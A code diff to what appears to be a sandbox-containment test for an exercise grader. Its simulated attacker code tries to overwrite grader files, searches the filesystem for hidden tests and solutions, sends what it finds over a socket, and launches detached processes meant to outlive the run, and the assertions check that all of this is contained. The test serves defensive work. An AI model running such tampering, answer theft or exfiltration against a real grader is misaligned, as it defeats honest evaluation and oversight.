@@ -99,12 +99,22 @@ for target in (ROOT + "/grader/checks/conftest.py", ROOT + "/grader/score/scorin
     except OSError as exc:
         _say("write refused", f"{target}: {exc.strerror}")
 leaked = ""
-for pattern in (ROOT + "/grader/checks/*/test_*.py", ROOT + "/solutions/*.py", "/**/checks/ex1_device/*.py"):
-    for path in glob.glob(pattern, recursive=True)[:50]:
-        try:
-            leaked += open(path).read()
-        except OSError:
-            pass
+found = [path for pattern in (ROOT + "/grader/checks/*/test_*.py", ROOT + "/solutions/*.py")
+         for path in glob.glob(pattern)[:50]]
+walked = 0
+for top in sorted(os.listdir("/")):  # the whole filesystem it sees, but the kernel's (/proc is probed above)
+    if top in ("proc", "sys", "dev"):
+        continue
+    for folder, _, names in os.walk("/" + top):
+        walked += len(names)
+        if folder.endswith("/checks/ex1_device") or folder.endswith("/solutions"):
+            found += [os.path.join(folder, name) for name in names if name.endswith(".py")]
+for path in found:
+    try:
+        leaked += open(path).read()
+    except OSError:
+        pass
+_say("files walked", walked)
 _say("leaked bytes", len(leaked))
 try:
     socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"exfiltrated " + leaked[:1000].encode())
@@ -137,7 +147,7 @@ STARTED = []
 def time_matmul(n, device, repeats=5):
     if not STARTED:  # escaped spinners, once: their own sessions, a clean environment
         STARTED.extend(subprocess.Popen([sys.executable, "-c", "while True: pass", "MARKER-spinner"],
-                                        start_new_session=True, env={}) for _ in range(60))
+                                        start_new_session=True, env={}) for _ in range(8))
         time.sleep(0.5)
         print("[spinners]", sum(1 for p in os.listdir("/proc")
                                 if p.isdigit() and "MARKER" in open(f"/proc/{p}/cmdline").read()))
@@ -245,6 +255,8 @@ def _assert_contained(attacker: dict[str, Any], received: list[bytes], before: d
     # has the learner's uid: as an ordinary user, exec'd); a forked one's init keeps no fd it could read.
     assert set(ast.literal_eval(_output(attacker, "pipes seen"))) <= {"/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"}
     assert _output(attacker, "leaked bytes") == "0"
+    assert int(_output(attacker, "files walked")) > 1000  # the search went through torch's files, and ended
+    assert attacker["top_level"] == []
     assert "wrote " + str(ROOT) not in attacker["output"]
     assert _output(attacker, "network") in ("Connection refused", "Network is unreachable")
     assert received == []
@@ -252,7 +264,7 @@ def _assert_contained(attacker: dict[str, Any], received: list[bytes], before: d
     assert _digest(ROOT / "grader") == before  # the grader's files, byte for byte
     assert not Path(f"/tmp/{MARKER}-outside").exists() and not (ROOT / f"{MARKER}-outside").exists()
     assert HIDDEN not in yaml.safe_dump(attacker) and SOLUTION not in yaml.safe_dump(attacker)
-    assert _output(attacker, "daemons") == "1" and int(_output(attacker, "spinners")) >= 60  # they did start
+    assert _output(attacker, "daemons") == "1" and int(_output(attacker, "spinners")) >= 8  # they did start
     time.sleep(0.5)
     assert survivors(MARKER) == []  # the daemon, the spinners, the threads: ended with the run
     bomb = next(c for c in attacker["exercises"]["ex3"]["checks"] if c["id"] == "ex3.to_numpy_cpu")
